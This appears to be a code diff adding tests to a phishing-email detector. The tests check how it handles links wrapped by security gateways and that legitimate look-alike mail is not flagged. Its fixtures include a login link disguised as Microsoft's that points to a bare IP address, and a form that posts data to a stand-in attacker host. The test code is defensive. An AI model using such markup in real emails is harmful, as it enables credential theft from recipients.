@@ -67,3 +67,98 @@ describe('email.link.meta_refresh and email.link.script_url', () => {
     expect(signal(img, 'email.link.meta_refresh')).toBeUndefined();
   });
 });
+
+// ---- link rewriters: the destination is judged, the gateway's host is not evidence
+const enc = encodeURIComponent;
+const ppV2 = (u: string) => enc(u).replace(/%2F/g, '/').replace(/-/g, '%2D').replace(/_/g, '%5F').replace(/%/g, '-').replace(/\//g, '_');
+const REWRITERS: [string, (dest: string) => string][] = [
+  ['safelinks', (d) => `https://nam12.safelinks.protection.outlook.com/?url=${enc(d)}&data=05%7C02%7Cx&sdata=AbC%3D&reserved=0`],
+  ['proofpoint v1', (d) => `https://urldefense.proofpoint.com/v1/url?u=${enc(d)}&k=abc%3D%0A&r=x`],
+  ['proofpoint v2', (d) => `https://urldefense.proofpoint.com/v2/url?u=${ppV2(d)}&d=DwMFaQ&c=abc&r=def&m=ghi&s=jkl&e=`],
+  ['proofpoint v3', (d) => `https://urldefense.com/v3/__${d}__;!!ABcdEF!GhIjKl$`],
+  ['barracuda', (d) => `https://linkprotect.cudasvc.com/url?a=${enc(d)}&c=E,1,AbCd,&typo=1`],
+  ['google', (d) => `https://www.google.com/url?q=${enc(d)}&sa=D&ust=1&usg=AOvVaw0`],
+  ['trend micro', (d) => `https://imsva91-ctp.trendmicro.com/wis/clicktime/v1/query?url=${enc(d)}&umid=0a1b&auth=abc`],
+  ['sophos', (d) => `https://eu-central-1.protection.sophos.com?d=shop.example&u=${Buffer.from(d).toString('base64')}&i=a&t=b&h=c`],
+  ['cisco', (d) => `https://secure-web.cisco.com/1AbCdEfGhIj/${enc(d)}`],
+];
+const SEV = ['info', 'low', 'medium', 'high', 'critical'];
+/** Link, URL and domain signals at medium or above (what issue 9 says legitimate mail must not get). */
+const strongLinkSignals = (v: { signals: { id: string; severity: string }[] }) =>
+  v.signals.filter((s) => /^(email\.link|url|domain)\./.test(s.id) && SEV.indexOf(s.severity) >= 2).map((s) => `${s.id}:${s.severity}`);
+
+describe('links behind link rewriters', () => {
+  const phish = 'http://198.51.100.23/owa/login.php';
+  it('still flags a phishing destination behind Safe Links, naming the wrapper in the evidence', async () => {
+    const v = await scan(`<a href="${REWRITERS[0]![1](phish)}">https://login.microsoftonline.com/</a>`);
+    expect(signal(v, 'url.host.ip_literal')?.evidence[0]?.text).toBe(`${phish} (via safelinks)`);
+    expect(signal(v, 'email.link.text_href_mismatch')?.message).toContain('198.51.100.23');
+    expect(v.verdict).not.toBe('clean');
+  });
+  it.each(REWRITERS)('keeps a benign destination behind %s as clean as without the wrapper', async (_, wrap) => {
+    const dests = ['https://www.shop.example/orders/1234', 'https://click.mail.shop.example/ls/click?upn=abc123', 'https://www.shop.example/email/preferences?u=8f3a2b'];
+    const html = (w: (d: string) => string) =>
+      `<p>Your order has shipped.</p><p><a href="${w(dests[0]!)}">www.shop.example</a> · <a href="${w(dests[1]!)}">Track it</a> ·
+       <a href="${w(dests[2]!)}">Manage preferences</a></p>`;
+    const from = 'Shop <orders@shop.example>';
+    const plain = await analyzeEmail(eml({ from, html: html((d) => d) }), { scorer: null });
+    const wrapped = await analyzeEmail(eml({ from, html: html(wrap) }), { scorer: null });
+    const ids = (v: typeof plain) => v.signals.map((s) => `${s.id}:${s.severity}`).sort();
+    expect(ids(wrapped)).toEqual(ids(plain));
+    expect(strongLinkSignals(wrapped)).toEqual([]);
+    expect(wrapped.verdict).toBe('clean');
+  });
+  it('treats an opaque Mimecast link as unknown: no mismatch with its text, no signal', async () => {
+    const v = await scan('<a href="https://protect-eu.mimecast.com/s/AbCdEfGhIjKlMnOp?domain=shop.example">www.shop.example</a>');
+    expect(v.signals.filter((s) => /^(email\.link|url|domain)\./.test(s.id))).toEqual([]);
+  });
+});
+
+// ---- issue 9: legitimate mail that looks like phishing to a naive check (shipped URL and domain models)
+describe('legitimate look-alikes get no link signal of medium or higher', () => {
+  it.each([
+    [
+      'a newsletter with search and subscribe forms to its own domain',
+      'News <news@shop.example>',
+      `<h1>Spring picks</h1><form action="https://www.shop.example/search" method="get"><input name="q"><button>Search</button></form>
+       <form action="https://lists.shop.example/subscribe" method="post"><input type="email" name="email"><button>Subscribe</button></form>
+       <a href="https://www.shop.example/unsubscribe?u=8f3a2b">Unsubscribe</a>`,
+    ],
+    [
+      'a password reset on the sender\'s own domain',
+      'Shop <no-reply@shop.example>',
+      `<p>Someone asked to reset your password.</p><a href="https://account.shop.example/login/reset-password?token=9f8e7d6c5b4a3f2e1d0c">Reset password</a>
+       <p>Not you? <a href="https://www.shop.example/help">www.shop.example</a></p>`,
+    ],
+    [
+      'Microsoft mail linking to its sign-in, short-link and Office domains',
+      'Microsoft account team <account-security-noreply@accountprotection.microsoft.com>',
+      `<p>Security info was added to your account.</p>
+       <a href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=4765445b&response_type=code&scope=openid">Review sign-in</a>
+       <a href="https://aka.ms/MFASetup">Set up verification</a> <a href="https://www.office.com/?auth=2">www.office.com</a>
+       <a href="https://account.microsoft.com/security">account.microsoft.com</a>`,
+    ],
+    [
+      'PayPal mail linking to paypal.com and paypal-communication.com',
+      'PayPal <service@paypal.com>',
+      `<p>You sent a payment.</p><a href="https://www.paypal.com/signin?returnUri=%2Fmyaccount%2Ftransactions">Log in to PayPal</a>
+       <a href="https://www.paypal-communication.com/r/LRH6JSSC/P0D7J/MF2DN/QY5W8/A4A/t">www.paypal.com</a>`,
+    ],
+    [
+      'Amazon mail linking to amazon.co.uk',
+      'Amazon.co.uk <auto-confirm@amazon.com>',
+      `<p>Your order has been dispatched.</p><a href="https://www.amazon.co.uk/gp/css/order-history?ref_=pe_your_orders">Your orders</a>
+       <a href="https://www.amazon.co.uk/ap/signin?openid.return_to=https%3A%2F%2Fwww.amazon.co.uk%2Fyour-account">www.amazon.com</a>`,
+    ],
+  ])('%s', async (_, from, html) => {
+    const v = await analyzeEmail(eml({ from, subject: 'Your account', html }), { scorer: null });
+    expect(strongLinkSignals(v)).toEqual([]);
+  });
+
+  it('still flags a search-looking form that posts to another site, and any password form', async () => {
+    const away = await analyzeEmail(eml({ from: 'News <news@shop.example>', html: '<form action="https://collect.attacker.example/s"><input name="q"></form>' }), { scorer: null });
+    expect(signal(away, 'email.link.form_in_body')?.severity).toBe('high');
+    const pw = await analyzeEmail(eml({ from: 'Shop <no-reply@shop.example>', html: '<form action="https://account.shop.example/login"><input name="u"><input type="password" name="p"></form>' }), { scorer: null });
+    expect(signal(pw, 'email.link.form_in_body')?.severity).toBe('critical');
+  });
+});
